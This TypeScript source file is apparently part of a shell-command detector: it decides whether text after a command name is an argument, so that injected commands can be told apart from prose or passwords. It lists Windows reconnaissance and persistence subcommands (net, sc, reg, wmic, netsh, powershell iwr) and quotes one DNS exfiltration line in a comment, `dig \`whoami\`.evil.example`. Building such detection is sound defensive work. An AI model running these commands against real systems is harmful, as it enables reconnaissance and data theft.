/** What stands behind a command's name: whether it has arguments, and of what kind. */
import { isDigit, isLetter } from '../../ascii.ts'
import { isSpace } from './characters.ts'
import { kindOf, mayBeCommand, product, quoted, rare, terse } from './commands.ts'
import { readsAsProse } from './prose-tail.ts'

/** What programs of Windows are asked about, or told to do. */
const objects: ReadonlyMap<string, ReadonlySet<string>> = new Map(
  [
    ['net', 'view share group accounts config session use'],
    ['sc', 'query queryex qc create config start stop delete'],
    ['reg', 'add query save export delete'],
    [
      'wmic',
      'process os path service useraccount product qfe logicaldisk computersystem bios startup share nicconfig ntdomain datafile environment group shadowcopy',
    ],
    ['netsh', 'advfirewall firewall wlan int interface winhttp trace http portproxy'],
  ].map(([name, words]) => [name as string, new Set((words as string).split(' '))]),
)

/** Commands whose arguments are words. */
export const takesWords: ReadonlySet<string> = new Set(['echo', 'ps', ...objects.keys()])

/** What stands behind a command's name. */
export type Tail = 'end' | 'separator' | 'argument' | 'quoted' | 'number' | 'word' | 'call' | 'name' | 'close'

export function tailOf(text: string, end: number, name: string): Tail {
  const { length } = text
  if (end >= length) return 'end'
  const code = text.charCodeAt(end)
  // `; for <b>`: the loop of Windows takes a letter or an option.
  if (name === 'for' && /^ ?[<&]/.test(text.slice(end, end + 2))) return 'word'
  if (code === 0x3d || code === 0x3a || code === 0x2c) return 'name'
  if (code === 0x3c && closesTag(text, end)) return 'word'
  if (code === 0x28) return name === 'iex' || name.startsWith('invoke-') ? 'argument' : 'call'
  if (code === 0x29 || code === 0x60) return 'close'
  if (code === 0x24 || code === 0x3c || code === 0x3e || code === 0x7b) return 'argument'
  if (code === 0x7c || code === 0x26 || code === 0x23) return 'separator'
  if (code === 0x3b) return 'separator'
  if (code === 0x27 || code === 0x22) {
    const after = text.charCodeAt(end + 1)
    return end + 1 >= length ||
      isSpace(after) ||
      after === 0x7c ||
      after === 0x3b ||
      after === 0x26 ||
      after === 0x29 ||
      closesText(text, end + 1, after)
      ? 'end'
      : 'quoted'
  }
  if (code === 0x2f || code === 0x5c) return isLetter(text.charCodeAt(end + 1)) ? 'argument' : 'word'
  if (!isSpace(code) && code !== 0x2b) return 'word'
  let i = end
  while (i < length && i < end + 16 && (isSpace(text.charCodeAt(i)) || text.charCodeAt(i) === 0x2b)) {
    if ((text.charCodeAt(i) === 0x0a || text.charCodeAt(i) === 0x0d) && i > end - 1) return 'separator'
    i++
  }
  if (i >= length) return 'end'
  const first = text.charCodeAt(i)
  const second = text.charCodeAt(i + 1)
  if (isDigit(first) && kindOf(name) === product && isVersion(text, i)) return 'word'
  if (readsAsProse(text, i, name)) return 'word'
  if (first === 0x2d) return isLetter(second) || second === 0x2d || isDigit(second) ? 'argument' : 'word'
  if (first === 0x2f)
    return isLetter(second) || second === 0x3f || second === 0x2a || second === 0x5b
      ? 'argument'
      : i + 1 >= length || isSpace(second) || second === 0x3b || second === 0x7c
        ? 'argument'
        : 'word'
  if (first === 0x2e) return second === 0x2f || second === 0x2e ? 'argument' : 'word'
  if (first === 0x7e) return 'argument'
  if (first === 0x24) return second === 0x28 || isLetter(second) || second === 0x7b ? 'argument' : 'word'
  if (first === 0x3e || first === 0x3c) return 'argument'
  if (first === 0x2a) return second === 0x2e || i + 1 >= length ? 'argument' : 'word'
  if (first === 0x25) return isLetter(second) ? 'argument' : 'word'
  if (first === 0x7c || first === 0x26 || first === 0x3b || first === 0x23) return 'separator'
  if (first === 0x60 && opensSubstitution(text, i, name)) return 'argument'
  if (first === 0x29 || first === 0x60) return 'close'
  if (first === 0x22 || first === 0x27) {
    if (i + 1 >= length) return 'end'
    return quoted.has(name) || second === 0x2f || second === 0x2d ? 'quoted' : 'word'
  }
  if (first === 0x28) return name === 'iex' ? 'argument' : 'call'
  // `2>&1`
  if (isDigit(first) && second === 0x3e) return 'argument'
  // Numbers, addresses, host names, drives, file names.
  let j = i
  let dots = 0
  let slashes = 0
  let digits = 0
  while (j < length && j < i + 64) {
    const at = text.charCodeAt(j)
    if (
      isSpace(at) ||
      // `; cut cake</p>`
      (at === 0x3c && text.charCodeAt(j + 1) === 0x2f) ||
      // `[cut costs](/a)`
      (at === 0x5d && text.charCodeAt(j + 1) === 0x28) ||
      at === 0x7c ||
      at === 0x3b ||
      at === 0x26 ||
      at === 0x60 ||
      at === 0x29 ||
      at === 0x27 ||
      at === 0x22
    )
      break
    if (at === 0x2e && j + 1 < length && !isSpace(text.charCodeAt(j + 1))) dots++
    else if (at === 0x2f || at === 0x5c) slashes++
    else if (isDigit(at)) digits++
    j++
  }
  if (digits > 0 && digits + dots === j - i) return dots >= 3 ? 'argument' : 'number'
  if (
    (slashes > 0 && !text.startsWith('or', i)) ||
    (text.charCodeAt(i + 1) === 0x3a && (slashes > 0 || (j === i + 2 && isLetter(first) && name !== 'time')))
  )
    return 'argument'
  if (dots > 0) return 'argument'
  const argument = text.slice(i, j).toLowerCase()
  if (
    argument === 'passwd' ||
    (argument === 'user' && !isReader(text, j, name)) ||
    argument === 'localgroup' ||
    argument === 'localhost' ||
    objects.get(name)?.has(argument) === true ||
    // `powershell iwr …`
    ((name === 'powershell' || name === 'pwsh') && kindOf(argument) === rare) ||
    (name === 'ps' && /^[aefuxw]{2,5}$/.test(argument))
  )
    return 'argument'
  return 'word'
}

/** `test user input`, `aptitude user's manual`: a user of whom prose speaks. */
function isReader(text: string, end: number, name: string): boolean {
  if (name === 'test' || name === 'aptitude') return true
  return /^['’]s\s/.test(text.slice(end, end + 3))
}

const version = /^\d{1,3}(?:\.\d{1,5}){1,2}(?:[_+-]\w{1,12})?(?=[;,)\s]|$)/

/** `; java 1.8.0_111;`: which release of a product. */
function isVersion(text: string, at: number): boolean {
  return version.test(text.slice(at, at + 40))
}

/** `<a>Books & more</a>`: the end of an element that the text has opened; no file to read from. */
function closesTag(text: string, at: number): boolean {
  const [, name] = /^<\/([a-z][a-z0-9]{0,10})>/i.exec(text.slice(at, at + 16)) ?? []
  return name !== undefined && text.slice(Math.max(0, at - 1024), at).includes(`<${name}`)
}

/** `"It's OK; go","emoji":`: JSON goes on behind its string. */
function closesText(text: string, at: number, code: number): boolean {
  if (code === 0x7d || code === 0x5d) return true
  return code === 0x2c && /^["'{[\dtfn]/.test(text.charAt(at + 1))
}

/** What a redirection, a variable or a brace behind a name goes on with where it is one. */
const goesOn =
  /^(?:[<>]{1,3}&?\s{0,2}(?:[\w./~-]{1,64}(?:[\s;|&'"`)#]|$)|[$(&'"])|\$(?:IFS|[{(@*\d])|\{,|\{[\w-]{1,24}\})/i

/**
 * A sign stands straight behind a name of one or two letters, and nothing that makes it an argument: `Xy;w>k$`, `p&nc^<,o`. What
 * chance writes, in passwords above all.
 */
export function isGlued(text: string, end: number, name: string, tail: Tail): boolean {
  if (name === 'w') return tail !== 'end' && tail !== 'separator' && tail !== 'close'
  if (name.length > 2 || isSpace(text.charCodeAt(end)) || (tail !== 'argument' && tail !== 'quoted')) return false
  return !goesOn.test(text.slice(end, end + 80)) && !/^[/\\][a-z]{1,2}\b/i.test(text.slice(end, end + 4))
}

/** ``dig `whoami`.evil.example``: a command is the argument of one that nobody writes code in backticks behind. */
function opensSubstitution(text: string, at: number, name: string): boolean {
  const isKnown =
    name === 'eval' || name === 'dig' || name === 'host' || name === 'echo' || terse.has(name) || kindOf(name) === rare
  if (!isKnown) return false
  let end = at + 1
  while (end < at + 24 && isLetter(text.charCodeAt(end))) end++
  const isProgram = end === at + 1 ? text.charCodeAt(end) === 0x2f : mayBeCommand(text, at + 1, end)
  return isProgram && text.slice(end, end + 64).includes('`')
}
